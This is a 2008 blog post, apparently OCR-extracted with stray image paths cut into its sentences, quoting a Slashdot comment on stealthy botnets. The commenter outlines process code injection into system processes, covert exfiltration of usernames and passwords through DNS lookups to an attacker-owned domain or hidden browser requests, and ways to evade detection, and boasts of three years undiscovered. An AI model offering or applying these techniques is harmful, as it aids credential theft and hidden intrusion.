Monday, December 22, 2008

Botnets Watch the IT Department

From as back as far as 2002:

Slashdot | Distributed, Low-Intensity Botnets
Actually botnets watch the IT department.

Is this really a surprise ? Not every hacker is a 10 year old that does it for the kick of announcing himself "master of the network".

These days you write a virus, that stays in the back-back-background (exe injection is one hell of a rootkit-like trick that not a single antivirus vendor detects : you startup. You find some dameon process that's sure as hell not going to get terminated any time soon (on winxp you can actually use the "idle" process), you "debug" the process, insert your own code in it's memory, in a freshly allocated piece, use the debugger to jump into your code, which creates a new thread in it's address space. You clean up, and voila, you'd have to be one hell of an admin to realise what happens on boot. You could even infect svchost.exe on disk).

The hacking programs stay very, very, very low key and use covert channels to send information out, and receive answers. (e.g. user logs in with username password -> daemon looks up aes('$username,$password').some.domain.attacker.owns. The remote dns serveris what informs the attacker of the username and password. Or have thewebbrowser startup in a hidden window going to""+aes('$username,$password'). You get the idea.

In these days of youtube, myspace and such, such a lookup is not exactly a strange occurance (though I use a "question and answers" site), and used sparingly, willevade any detection system.

Use the enemy's tools against him. Use the webbrowser to connect to the web. Use DNS. Useemail. Use ... never try to open anoutside connection.

Works wonders. 3 years now, and still not discovered.

Nocomments:


Related Posts with Thumbnails